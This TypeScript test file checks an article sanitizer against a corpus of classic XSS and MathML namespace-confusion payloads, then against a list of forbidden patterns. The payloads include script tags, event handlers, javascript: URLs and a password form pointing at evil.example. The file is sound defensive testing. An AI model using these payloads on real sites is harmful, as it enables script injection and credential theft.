/**
 * The sanitizer against a corpus of classic payloads (OWASP XSS filter-evasion cheat sheet and
 * DOMPurify's own mXSS cases, adapted): whatever goes in, what comes out has no script, no event
 * handler, no dangerous URL, no style, form, frame, SVG, id or name. MathML formulas are kept,
 * within DOMPurify's namespace checks; the classic MathML namespace-confusion payloads stay dead.
 * Extraction hands the sanitizer DOM (sanitizeArticleNode), the clean view a string
 * (sanitizeArticleHtml): both are held to the same corpus.
 */
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { sanitizeArticleHtml, sanitizeArticleNode } from '../../src/core/sanitize.ts';
import { extractArticle } from '../../src/core/extract.ts';
import { pageDocument } from '../helpers/page.ts';

const doc = new JSDOM('<!doctype html><body></body>', { url: 'https://news.example/story' }).window.document;

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert(1)`>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG SRC=/ onerror="alert(1)"></img>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://ok.example/" onclick="alert(1)">ok</a>',
  '<BODY ONLOAD=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<template><script>alert(1)</script></template>',
  '<img name="getElementById"><form id="documentElement"></form><a id="location" href="https://evil.example/">x</a>',
  '<a href="https://evil.example/" target="_top" ping="https://evil.example/ping">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<x onafterscriptexecute=alert(1)><script>1</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<p>plain <b>bold</b> and <a href="https://ok.example/page">a link</a></p>',
  // MathML-based: namespace confusion through mglyph/malignmark and style, HTML in annotation-xml.
  '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>',
  '<math><mtext><table><malignmark><style><img src=x onerror=alert(1)></style></malignmark></table></mtext></math>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<math><semantics><annotation-xml encoding="application/xhtml+xml"><img src=x onerror=alert(1)><script>alert(2)</script></annotation-xml></semantics></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">m</maction></math>',
  '<math href="javascript:alert(1)"><mi style="color:red" onclick="alert(1)">x</mi></math>',
  '<math><mi><svg><style><img src=x onerror=alert(1)></style></svg></mi></math>',
];

const FORBIDDEN = [/<script/i, /<style/i, /<svg/i, /<mglyph/i, /<malignmark/i, /<annotation/i, /<maction/i, /<img[^>]*src="?x/i, /<iframe/i, /<object/i, /<embed/i, /<form/i, /<input/i, /<button/i, /<base/i, /<meta/i, /<link/i, /<template/i, /<noscript/i, /\son[a-z]+\s*=/i, /javascript:/i, /vbscript:/i, /data:/i, /\sstyle\s*=/i, /\sid\s*=/i, /\sname\s*=/i, /\sping\s*=/i, /\starget\s*=/i, /srcdoc/i, /formaction/i, /xlink/i];

const ATTRIBUTES = ['href', 'src', 'alt', 'title', 'width', 'height', 'colspan', 'rowspan', 'lang', 'dir', 'datetime'];
const MATHML_ATTRIBUTES = ['display', 'alttext', 'mathvariant', 'displaystyle', 'scriptlevel', 'linethickness', 'accent', 'accentunder', 'stretchy', 'fence', 'separator', 'open', 'close', 'separators', 'notation', 'columnalign', 'rowalign'];
const MATHML_NS = 'http://www.w3.org/1998/Math/MathML';

function expectClean(html: string, root: HTMLElement): void {
  for (const re of FORBIDDEN) expect(html).not.toMatch(re);
  for (const el of Array.from(root.querySelectorAll('*'))) {
    const allowed = el.namespaceURI === MATHML_NS ? [...ATTRIBUTES, ...MATHML_ATTRIBUTES] : ATTRIBUTES;
    for (const attr of Array.from(el.attributes)) expect(allowed).toContain(attr.name);
    const url = el.getAttribute('href') ?? el.getAttribute('src');
    if (url !== null) expect(url).toMatch(/^(?:https?:|mailto:)/i);
  }
  // Nothing the HTML parser would not have put there: MathML only inside <math>, HTML inside it only in a token element.
  for (const el of Array.from(root.querySelectorAll('*'))) {
    const parent = el.parentElement;
    if (el.namespaceURI === MATHML_NS && el.localName !== 'math') expect(parent?.namespaceURI).toBe(MATHML_NS);
    if (el.namespaceURI !== MATHML_NS && parent?.namespaceURI === MATHML_NS) expect(['mi', 'mo', 'mn', 'ms', 'mtext']).toContain(parent.localName);
  }
}

/** The payload as a page's DOM would hold it (parsed), handed to the sanitizer as nodes. */
function asNode(payload: string): Element {
  const page = new JSDOM(`<!doctype html><body><div id="content">${payload}</div>`).window.document;
  return page.body.firstElementChild!;
}

describe('sanitizeArticleHtml', () => {
  it.each(PAYLOADS)('neutralises %s', (payload) => {
    const { html, root } = sanitizeArticleHtml(payload, doc);
    expectClean(html, root);
  });

  it.each(PAYLOADS)('neutralises %s given as DOM (sanitizeArticleNode)', (payload) => {
    const content = asNode(payload);
    const serialized = content.innerHTML;
    const viaString = sanitizeArticleHtml(serialized, doc).html;
    const { html, root } = sanitizeArticleNode(content, doc);
    expectClean(html, root);
    // The DOM path gives what the string path gave for the same DOM (extraction used to serialize
    // it). Not for <noscript>: parsed with scripting off (the page here) its content is markup,
    // parsed again by the sanitizer it is text; both are clean, but they differ.
    if (!/<noscript/i.test(payload)) expect(html).toBe(viaString);
  });

  it('keeps the structure a reader needs', () => {
    const { html } = sanitizeArticleHtml('<h2>Head</h2><p>Text <em>em</em> <a href="https://ok.example/">link</a></p><ul><li>one</li></ul><blockquote><p>quote</p></blockquote><figure><img src="https://img.example/a.jpg" alt="A"><figcaption>Cap</figcaption></figure>', doc);
    expect(html).toBe('<h2>Head</h2><p>Text <em>em</em> <a href="https://ok.example/">link</a></p><ul><li>one</li></ul><blockquote><p>quote</p></blockquote><figure><img src="https://img.example/a.jpg" alt="A"><figcaption>Cap</figcaption></figure>');
  });

  it('keeps MathML formulas, in the MathML namespace, without their TeX annotation', () => {
    const formula =
      '<p>When <math alttext="a \\ne 0"><semantics><mrow><mi>a</mi><mo>≠</mo><mn>0</mn></mrow><annotation encoding="application/x-tex">a \\ne 0</annotation></semantics></math>, there are two solutions to <math display="block"><mrow><mi>a</mi><msup><mi>x</mi><mn>2</mn></msup><mo>+</mo><mi>c</mi><mo>=</mo><mn>0</mn></mrow></math>.</p>';
    for (const { html, root } of [sanitizeArticleHtml(formula, doc), sanitizeArticleNode(asNode(formula), doc)]) {
      expect(html).toBe(
        '<p>When <math alttext="a \\ne 0"><mrow><mi>a</mi><mo>≠</mo><mn>0</mn></mrow></math>, there are two solutions to <math display="block"><mrow><mi>a</mi><msup><mi>x</mi><mn>2</mn></msup><mo>+</mo><mi>c</mi><mo>=</mo><mn>0</mn></mrow></math>.</p>',
      );
      const maths = Array.from(root.querySelectorAll('math'));
      expect(maths).toHaveLength(2);
      for (const m of maths) expect(m.namespaceURI).toBe(MATHML_NS);
      expect(root.textContent).toBe('When a≠0, there are two solutions to ax2+c=0.');
    }
  });

  it('keeps MathML attributes on MathML elements only', () => {
    expect(sanitizeArticleHtml('<p display="block" alttext="x">Text</p><math display="block"><mi>x</mi></math>', doc).html).toBe('<p>Text</p><math display="block"><mi>x</mi></math>');
  });

  it('drops a formula left with no text and no alttext', () => {
    expect(sanitizeArticleHtml('<p>Before <math><mspace width="1em"></mspace></math>after.</p>', doc).html).toBe('<p>Before after.</p>');
    expect(sanitizeArticleHtml('<p>Before <math alttext="x"><mspace></mspace></math>after.</p>', doc).html).toBe('<p>Before <math alttext="x"><mspace></mspace></math>after.</p>');
  });

  it('drops elements in a namespace the HTML parser would never give them (DOM built by script)', () => {
    const page = new JSDOM('<!doctype html><body><div id="content"><p>Text</p></div>').window.document;
    const content = page.body.firstElementChild!;
    const math = page.createElementNS(MATHML_NS, 'math');
    // An HTML <style> and <img> directly in <math> (no token element between): the parser would
    // have closed the formula first. A MathML <mi> outside any <math>, and an HTML-namespace <mi>.
    const style = page.createElement('style');
    style.textContent = '* { color: red }';
    const img = page.createElement('img');
    img.setAttribute('src', 'https://img.example/x.png');
    math.append(style, img, page.createElementNS(MATHML_NS, 'mi'));
    const strayMi = page.createElementNS(MATHML_NS, 'mi');
    strayMi.textContent = 'stray';
    const htmlMi = page.createElement('mi');
    htmlMi.textContent = 'html-mi';
    content.append(math, strayMi, htmlMi);
    const { html, root } = sanitizeArticleNode(content, doc);
    expect(html).not.toMatch(/<style|<img|<mi>stray|<mi>html-mi/);
    expect(root.querySelector('p')?.textContent).toBe('Text');
    expectClean(html, root);
  });
});

describe('extraction keeps formulas', () => {
  it('a MathML formula in the story reaches the article HTML, in the MathML namespace', () => {
    const { doc: page, url } = pageDocument({
      paragraphs: [
        'The county engineer explained on Tuesday how the new pumps were sized for the river trail, using the same rule that the state has required for every flood project since the storm.',
        'The flow through each pipe follows <math alttext="Q = v A"><mi>Q</mi><mo>=</mo><mi>v</mi><mi>A</mi></math>, where the velocity and the area of the pipe are measured at the inlet of each of the four stations.',
        'The budget now goes to the finance committee, which is expected to take it up at its next meeting in the spring, when members will also review the capital plan for roads.',
      ],
    });
    const result = extractArticle(page, url);
    expect(result.isArticle).toBe(true);
    if (!result.isArticle) return;
    expect(result.html).toContain('<math alttext="Q = v A"><mi>Q</mi><mo>=</mo><mi>v</mi><mi>A</mi></math>');
    const again = sanitizeArticleHtml(result.html, doc).root.querySelector('math');
    expect(again?.namespaceURI).toBe(MATHML_NS);
  });
});

describe('extraction on hostile pages', () => {
  it('resolves relative links against the page, not a <base> pointing elsewhere', () => {
    const { doc: page, url } = pageDocument({
      head: '<base href="https://evil.example/">',
      paragraphs: [
        'The county board voted on Tuesday evening to approve a budget that adds four new positions, as the <a href="/budget/2025">full budget document</a> shows in detail for every department.',
        'Board members said the change reflected months of public comment, much of it from residents who asked for longer hours at the two public pools and better lighting on the trail.',
        'The budget now goes to the finance committee, which is expected to take it up at its next meeting in the spring, when members will also review the capital plan for roads.',
      ],
    });
    const result = extractArticle(page, url);
    expect(result.isArticle).toBe(true);
    if (!result.isArticle) return;
    expect(result.html).toContain('href="https://www.countyledger.example/budget/2025"');
    expect(result.html).not.toContain('evil.example');
  });
});
